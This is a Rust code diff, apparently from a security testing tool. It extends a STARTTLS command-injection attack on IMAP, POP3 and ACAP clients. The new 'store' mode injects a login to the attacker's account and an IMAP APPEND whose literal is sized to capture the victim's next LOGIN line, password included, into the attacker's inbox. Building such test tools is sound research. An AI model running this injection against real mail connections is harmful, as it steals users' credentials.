@@ -1,6 +1,6 @@
 //! Sends commands behind the client's STARTTLS.
 
-use super::kit::{asks_for_tls, login};
+use super::kit::{asks_for_tls, login, next_tag};
 use super::{Attack, Deciding, Group, group, tamper};
 use crate::base::ATTACKER;
 use crate::base::{Protocol, Switch, switch};
@@ -10,10 +10,10 @@ switch!(
     Middle INJECTED,
     "injected",
     Setting,
-    &["probe", "login"],
+    &["probe", "login", "store"],
     &[],
     "Injected command",
-    "One that only shows that it was carried out, or a login to the attacker's own account."
+    "One that only shows that it was carried out, a login to the attacker's own account, or that and the beginning of a message (IMAP): what the victim sends next is stored there."
 );
 
 static SWITCHES: &[&Switch] = &[&INJECTED];
@@ -41,15 +41,19 @@ pub static ATTACK: Attack = Attack {
     protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
     switches: SWITCHES,
     build: |switches, dialect| {
-        let logs_in = switches.get(&INJECTED) == "login";
+        let injected = switches.get(&INJECTED);
         tamper(move |message, moves| {
             moves.pass();
-            if asks_for_tls(dialect, &message).is_none() {
-                return;
-            }
-            if logs_in {
+            let Some(tag) = asks_for_tls(dialect, &message) else { return };
+            if injected != "probe" {
                 let (user, password) = ATTACKER;
                 moves.add(login(dialect.protocol, "q1", user, password).concat());
+                if injected == "store" && dialect.protocol == Protocol::Imap {
+                    // As long as the victim's LOGIN, whose name is known and whose password is guessed to have 16
+                    // characters: its line end then ends the command.
+                    let length = next_tag(&tag).len().saturating_add(" LOGIN tim ".len()).saturating_add(16);
+                    moves.add(format!("q2 APPEND INBOX {{{length}+}}\r\n").into_bytes());
+                }
             } else if dialect.protocol == Protocol::Pop3 {
                 moves.add(b"CAPA\r\n".to_vec());
             } else {
